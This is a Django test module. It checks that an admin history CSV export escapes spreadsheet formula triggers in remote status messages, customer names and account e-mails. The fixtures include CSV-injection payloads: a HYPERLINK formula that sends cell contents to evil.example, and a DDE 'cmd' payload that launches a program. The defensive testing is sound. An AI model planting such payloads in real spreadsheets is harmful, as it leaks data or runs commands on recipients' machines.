"""The history export never hands a spreadsheet a live formula (OWASP's CSV injection rule).

Remote text (a status message from Meeting BaaS) and what people type (a customer's name, an
account's e-mail) reach the cells of the auditors' CSV; a cell starting with =, +, -, @, a tab
or a carriage return would run as a formula in Excel or LibreOffice.
"""

from __future__ import annotations

import csv
import io

from django.test import Client
from django.urls import reverse

from calendars.actions.refresh import refresh_integration
from calendars.models import Credential, Customer

EXPORT = reverse("admin:calendars_history_export")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# The review's payloads, and the two whitespace triggers in front of a formula.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+2",
    "\t=1+2",
    "\r=1+2",
]


def auditor_export(role_client) -> list[dict]:
    response = role_client("Auditor").get(EXPORT, {"download": "1"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def live_formulas(rows: list[dict]) -> list[str]:
    return [cell for row in rows for cell in row.values() if cell.startswith(TRIGGERS)]


def test_formulas_in_remote_status_messages_are_exported_as_text(
    role_client, sandbox, make_integration
):
    integration = make_integration()
    for payload in PAYLOADS:
        sandbox.force(integration.remote_id, status="error", status_message=payload)
        refresh_integration(integration.pk)

    rows = auditor_export(role_client)

    assert live_formulas(rows) == []
    exported = {row["after"] for row in rows if row["field"] == "remote status message"}
    assert exported >= {f"'{payload}" for payload in PAYLOADS}


def test_formulas_typed_as_names_and_e_mails_are_exported_as_text(
    admin_client: Client, role_client, google_app, sandbox
):
    names = PAYLOADS[:4]  # tabs and line breaks are refused in names and e-mails
    emails = ["=1+2@evil.example", "+1+2@evil.example", "-2+3@evil.example"]
    for name in names:
        added = admin_client.post(
            reverse("admin:calendars_customer_add"),
            {"name": name, "external_ref": name, "outreach": "off"},
        )
        assert added.status_code == 302, added.content
    credential = Credential.objects.create(
        customer=Customer.objects.get(name=names[0]),
        oauth_app=google_app,
        account_email="alice@example.com",
        refresh_token="1//refresh:alice@example.com",
    )
    for customer in Customer.objects.exclude(pk=credential.customer_id):
        Credential.objects.create(
            customer=customer,
            oauth_app=google_app,
            account_email=f"{customer.pk}@example.com",
            refresh_token="1//refresh",
        )
    url = reverse("admin:calendars_credential_change", args=[credential.pk])
    for email in emails:
        data = {
            "customer": credential.customer_id,
            "oauth_app": google_app.pk,
            "account_email": email,
            "refresh_token": "",
        }
        assert admin_client.post(url, data).status_code == 302

    rows = auditor_export(role_client)

    assert live_formulas(rows) == []
    assert {row["customer"] for row in rows} >= {f"'{name}" for name in names}
    assert {row["after"] for row in rows if row["field"] == "account email"} == {
        f"'{email}" for email in emails
    }
    # Plain cells are left as they are (the auditor's own role, given by the command, is an
    # action row).
    assert {row["kind"] for row in rows} == {"change", "action"}
